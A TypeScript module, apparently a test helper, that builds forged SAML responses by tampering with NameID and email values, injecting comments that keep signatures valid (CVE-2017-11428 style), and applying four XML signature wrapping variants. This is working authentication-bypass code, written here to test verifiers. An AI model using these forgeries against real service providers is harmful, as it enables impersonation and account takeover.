import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

// What an attacker does to a response the IdP really signed: edits by hand on the DOM, never through a SAML library
// (a library would refuse to build most of these, which is the point).

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

/** Changes made after signing. */
export interface Tamper {
  /** Replace the NameID's text (the digest no longer matches). */
  nameId?: string;
  /** Replace the `email` attribute's value (the digest no longer matches). */
  email?: string;
  /**
   * Split a value with an empty comment at character `at` — `eve@acme.test<!---->.evil.example`. Canonicalization
   * drops comments, so the signature stays valid; a verifier that reads only the first text node sees the prefix
   * (CVE-2017-11428 and kin). What was signed, and what a correct SP reads, is the whole value.
   */
  comment?: { field: 'nameId' | 'email'; at: number };
}

/**
 * Signature wrapping (XSW): an unsigned assertion for someone else, placed so that the IdP's signature still verifies.
 * - `beside`: the forged assertion before the signed one, both children of the Response (XSW3).
 * - `advice`: the forged assertion takes the signed one's place; the signed one moves into its `<saml:Advice>`.
 * - `signature-moved`: the forged assertion carries the signature; the signed assertion (its signature taken out)
 *   sits in the signature's `<ds:Object>` (XSW7/8).
 *   The three need `sign: 'assertion'`.
 * - `response-wrap`: a forged Response around a forged assertion; the signed Response moves into its
 *   `<samlp:Extensions>` (XSW1/2). Needs a signed response.
 * Each is accepted by a verifier that checks "a signature verifies" and then reads the first assertion of the document.
 */
export type WrapVariant = 'beside' | 'advice' | 'signature-moved' | 'response-wrap';

/** Who the forged assertion says signed in. */
export interface Forged {
  nameId: string;
  email?: string;
}

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const children = (el: Element, ns: string, name: string) =>
  Array.from(el.childNodes).filter(
    (n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name,
  );
const onlyChild = (el: Element, ns: string, name: string) => {
  const [first] = children(el, ns, name);
  if (!first) throw new Error(`no ${name} in ${el.localName}`);
  return first;
};

function nameIdOf(assertion: Element): Element {
  return onlyChild(onlyChild(assertion, SAML, 'Subject'), SAML, 'NameID');
}

function emailValueOf(assertion: Element): Element {
  const statement = onlyChild(assertion, SAML, 'AttributeStatement');
  const attribute = children(statement, SAML, 'Attribute').find((a) => a.getAttribute('Name') === 'email');
  if (!attribute) throw new Error('the assertion has no email attribute');
  return onlyChild(attribute, SAML, 'AttributeValue');
}

function setText(doc: Document, el: Element, text: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(doc.createTextNode(text));
}

/** The response with `t` applied to its assertion. */
export function tamper(xml: string, t: Tamper): string {
  const doc = parse(xml);
  const assertion = onlyChild(doc.documentElement as Element, SAML, 'Assertion');
  if (t.nameId !== undefined) setText(doc, nameIdOf(assertion), t.nameId);
  if (t.email !== undefined) setText(doc, emailValueOf(assertion), t.email);
  if (t.comment) {
    const el = t.comment.field === 'nameId' ? nameIdOf(assertion) : emailValueOf(assertion);
    const text = el.textContent ?? '';
    setText(doc, el, text.slice(0, t.comment.at));
    el.appendChild(doc.createComment(''));
    el.appendChild(doc.createTextNode(text.slice(t.comment.at)));
  }
  return new XMLSerializer().serializeToString(doc);
}

/** A copy of `signed` for `who`, with a fresh ID and no signature. */
function forgedCopy(doc: Document, signed: Element, who: Forged): Element {
  const forged = signed.cloneNode(true) as Element;
  for (const s of children(forged, DS, 'Signature')) forged.removeChild(s);
  forged.setAttribute('ID', `${signed.getAttribute('ID')}-forged`);
  setText(doc, nameIdOf(forged), who.nameId);
  if (who.email !== undefined) setText(doc, emailValueOf(forged), who.email);
  return forged;
}

/** The response, signed by the IdP, wrapped around an assertion for `who` (see {@link WrapVariant}). */
export function wrap(xml: string, variant: WrapVariant, who: Forged): string {
  const doc = parse(xml);
  const response = doc.documentElement as Element;
  const signed = onlyChild(response, SAML, 'Assertion');
  const forged = forgedCopy(doc, signed, who);
  if (variant === 'beside') {
    response.insertBefore(forged, signed);
  } else if (variant === 'advice') {
    response.replaceChild(forged, signed);
    const advice = doc.createElementNS(SAML, 'saml:Advice');
    advice.appendChild(signed);
    forged.insertBefore(advice, onlyChild(forged, SAML, 'Conditions').nextSibling);
  } else if (variant === 'signature-moved') {
    const signature = onlyChild(signed, DS, 'Signature');
    signed.removeChild(signature);
    response.replaceChild(forged, signed);
    forged.insertBefore(signature, onlyChild(forged, SAML, 'Issuer').nextSibling);
    const object = doc.createElementNS(DS, 'ds:Object');
    object.appendChild(signed);
    signature.appendChild(object);
  } else {
    const outer = response.cloneNode(true) as Element;
    for (const s of children(outer, DS, 'Signature')) outer.removeChild(s);
    outer.setAttribute('ID', `${response.getAttribute('ID')}-forged`);
    outer.replaceChild(forged, onlyChild(outer, SAML, 'Assertion'));
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    doc.replaceChild(outer, response);
    extensions.appendChild(response);
    outer.insertBefore(extensions, onlyChild(outer, SAML, 'Issuer').nextSibling);
  }
  return new XMLSerializer().serializeToString(doc);
}
